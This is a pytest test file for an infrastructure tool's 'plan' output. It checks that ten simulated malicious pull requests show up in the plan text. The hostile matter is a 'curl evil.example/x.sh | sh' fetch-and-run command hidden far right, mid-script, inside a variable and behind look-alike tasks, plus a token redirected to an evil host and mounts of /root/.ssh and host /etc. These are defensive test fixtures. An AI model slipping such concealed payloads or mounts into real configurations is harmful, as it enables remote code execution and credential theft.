"""A plan hides nothing: of ten pull requests, five of them malicious, its text alone tells which are which.

The project runs on this machine. Each pull request changes its YAML as a reviewer would not notice in a plan
that cuts: far to the right, far below, among many that are alike.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.cli import Project, fleet, on_terminal, task, volume

EVIL = "curl evil.example/x.sh | sh"
SCRIPT = "\n".join(f"true step {i}" for i in range(12)) + "\n"
LONG = "python train.py " + " ".join(f"--option-{i}={i}" for i in range(20))
DIGEST = "docker.io/library/python@sha256:" + "a" * 60

Documents = list[dict[str, Any]]


def base() -> Documents:
    """A running project, as it was reviewed and applied."""
    sky = {
        "type": "backend",
        "name": "sky",
        "driver": "openstack",
        "regions": ["east"],
        "endpoint": "https://cloud.good.example",
        "credentials": {"username": "OS_USERNAME", "password": "OS_PASSWORD"},
        "catalog": [{"instance_type": "big", "cpu": 8, "memory": "16GB", "price": 2}],
    }
    trainer = task(
        "train",
        "exec sleep 1000",
        LONG,
        SCRIPT,
        backends=["local"],
        resources={"cpu": 1},
        env={"OPTIONS": LONG, "TOKEN_URL": "https://${{ env.HF_TOKEN }}@hub.good.example"},
        files=["job.py"],
        tags={"owner": "ml"},
        volumes=["data:/data"],
        retry={"on_events": ["error"], "duration": "1h"},
    )
    many = [task(f"many-{i}", "exec sleep 1000", backends=["local"], resources={"cpu": 1}) for i in range(6)]
    return [
        sky,
        fleet("gpu", nodes=5, placement="any", backends=["local"], tags={"team": "ml"}),
        volume("data", backend="local", prevent_destroy=True, tags={"keep": "yes"}),
        trainer,
        *many,
    ]


@pytest.fixture(scope="module")
def running(tmp_path_factory):
    """The project, applied: all its tasks run."""
    found = Project(tmp_path_factory.mktemp("shown"))
    found.declare(*base())
    found.write("job.py", "print(1)\n")
    found.apply(env=ENV)
    yield found
    found.clean_up()


ENV = {"HF_TOKEN": "hf-secret"}


def the(documents: Documents, name: str) -> dict[str, Any]:
    return next(d for d in documents if d["name"] == name)


def appended(documents: Documents) -> None:
    """A command, beyond column 100 of a long one."""
    the(documents, "train")["commands"][1] += f"; {EVIL}"


def line_four(documents: Documents) -> None:
    """Line 4 of a script."""
    commands = the(documents, "train")["commands"]
    commands[2] = commands[2].replace("step 3\n", f"step 3; {EVIL}\n")


def variable(documents: Documents) -> None:
    """The end of a long variable."""
    the(documents, "train")["env"]["OPTIONS"] += f" --hook=$({EVIL})"


def host_of_token(documents: Documents) -> None:
    """Where a secret is sent, beside which it stands."""
    the(documents, "train")["env"]["TOKEN_URL"] = "https://${{ env.HF_TOKEN }}@hub.evil.example"


def tag(documents: Documents) -> None:
    the(documents, "data")["tags"]["keep"] = "no"


def protection(documents: Documents) -> None:
    the(documents, "data")["prevent_destroy"] = False


def mount(documents: Documents) -> None:
    the(documents, "train")["volumes"] = ["data:/root/.ssh"]


def host_folder(documents: Documents) -> None:
    the(documents, "train")["volumes"].append("/etc:/host-etc")


def forever(documents: Documents) -> None:
    the(documents, "train")["retry"] = True


def hidden(documents: Documents) -> None:
    """Another task, behind many that are alike, with a long and harmless beginning."""
    for name in ("many-6", "many-8"):
        documents.append(task(name, "exec sleep 1000", backends=["local"], resources={"cpu": 1}))
    script = "\n".join(["true"] * 40 + [EVIL])
    documents.insert(-1, task("many-7", script, backends=["local"], resources={"cpu": 1}))


PULL_REQUESTS = [
    (appended, [f"  + {LONG}; {EVIL}", f"  - {LONG}"]),
    (line_four, ["  -   true step 3\n", f"  +   true step 3; {EVIL}\n"]),
    (variable, [f'  + "{LONG} --hook=$({EVIL})"', f'  - "{LONG}"']),
    (host_of_token, ["@hub.good.example", "@hub.evil.example"]),
    (tag, ['tags.keep: "yes" → "no"']),
    (protection, ["prevent_destroy: true → false"]),
    (mount, ["/root/.ssh"]),
    (host_folder, ["/host-etc", "/etc"]),
    (forever, ["retry", "1h"]),
    (hidden, [f"          {EVIL}\n", "task/many-7"]),
]


@pytest.mark.slow
@pytest.mark.parametrize(("change", "told"), PULL_REQUESTS, ids=[c.__name__ for c, _ in PULL_REQUESTS])
def test_the_text_of_a_plan_shows_every_change(running, change, told):
    """Off a terminal on one line each, and on a narrow one wrapped."""
    documents = base()
    change(documents)
    running.declare(*documents)
    text = running.run("plan", "--offline", code=None).out
    for part in told:
        assert part in text
    screen = on_terminal(running, "plan", "--offline", env={"NO_COLOR": "1", "COLUMNS": "80"})[1]
    seen = re.sub(r"\s", "", screen)
    assert all(re.sub(r"\s", "", part) in seen for part in told)


@pytest.mark.slow
def test_a_file_that_changed_is_shown(running):
    """Its content is not recorded, the sum of it is."""
    running.declare(*base())
    before = running.run("plan", "--offline").out
    running.write("job.py", "print(2)\n")
    text = running.run("plan", "--offline").out
    running.write("job.py", "print(1)\n")
    assert "No changes." in before
    assert re.search(r"files\.digest:  # forces replacement\n +- \"\w+\"\n +\+ \"\w+\"\n", text)
    assert "1 rank restarts: running now, stopped and started again." in text
